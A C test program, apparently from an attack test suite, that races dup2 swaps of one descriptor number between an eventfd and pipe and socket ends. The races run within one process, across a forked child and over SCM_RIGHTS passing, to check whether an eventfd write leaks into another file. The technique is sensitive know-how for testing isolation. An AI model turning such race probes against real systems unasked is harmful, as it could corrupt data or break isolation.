/* Another thread puts pairs under the number of a write to an eventfd: ends of a pipe and of socket pairs, there
 * for ever, in a forked child's table, and passed on over a socket. Before, the eventfd's own writes are made to sleep.
 */
#include "../attack.h"
#include <sys/eventfd.h>

static int p[2], s[2], d[2], counter, number = 40;

static void *flip(void *unused)
{
    for (;;) {
        dup2(counter, number);
        dup2(p[1], number);
        dup2(counter, number);
        dup2(s[1], number);
        dup2(counter, number);
        dup2(d[1], number);
    }
    return unused;
}

static void *drain(void *unused)
{
    uint64_t all;
    for (;;)
        read(counter, &all, sizeof all);
    return unused;
}

/* Puts what comes over a socket under the number: a pair and the eventfd in turn. */
static void *receive(void *end)
{
    for (;;) {
        char byte, space[CMSG_SPACE(sizeof(int))];
        struct iovec one = {&byte, 1};
        struct msghdr m = {.msg_iov = &one, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
        if (recvmsg((int)(long)end, &m, 0) <= 0 || !CMSG_FIRSTHDR(&m))
            continue;
        int fd = *(int *)CMSG_DATA(CMSG_FIRSTHDR(&m));
        dup2(fd, number);
        close(fd);
        dup2(counter, number);
    }
    return NULL;
}

static int won(void)
{
    return foreign(p[0], 'A') || foreign(s[0], 'A') || foreign(d[0], 'A');
}

static int try_for(double seconds)
{
    double until = tries_until(seconds);
    for (long i = 0; now() < until; i++) {
        uint64_t value = i % 64 ? 0x4242424242424242 : UINT64_MAX - 1;
        write(number, &value, sizeof value);
        if (i % 8 == 0 && won())
            return 1;
    }
    return won();
}

int main(void)
{
    pthread_t t;
    struct sockaddr_un name = {AF_UNIX, ""};
    socklen_t size = sizeof(sa_family_t) + 1 + sprintf(name.sun_path + 1, "scpipe-counter-%d", getpid());
    int way = socket(AF_UNIX, SOCK_DGRAM, 0), out = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    pipe2(p, O_NONBLOCK);
    socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, s);
    socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, d);
    counter = eventfd(0, 0);
    bind(way, (struct sockaddr *)&name, size);
    connect(out, (struct sockaddr *)&name, size);
    write(p[1], "A", 1);
    write(s[1], "A", 1);
    write(d[1], "A", 1);
    pthread_create(&t, NULL, drain, NULL);
    pthread_create(&t, NULL, flip, NULL);
    if (try_for(1))
        end(1, "");
    pid_t child = fork();
    if (child == 0) {
        pthread_create(&t, NULL, drain, NULL);
        pthread_create(&t, NULL, receive, (void *)(long)way);
        _exit(try_for(1));
    }
    while (waitpid(child, NULL, WNOHANG) == 0) {
        char byte = 0, space[CMSG_SPACE(sizeof(int))] = {0};
        struct iovec one = {&byte, 1};
        struct msghdr m = {.msg_iov = &one, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
        *CMSG_FIRSTHDR(&m) = (struct cmsghdr){CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS};
        *(int *)CMSG_DATA(CMSG_FIRSTHDR(&m)) = p[1];
        sendmsg(out, &m, 0);
        if (won())
            end(1, "");
    }
    end(won(), "only the event byte came out");
}
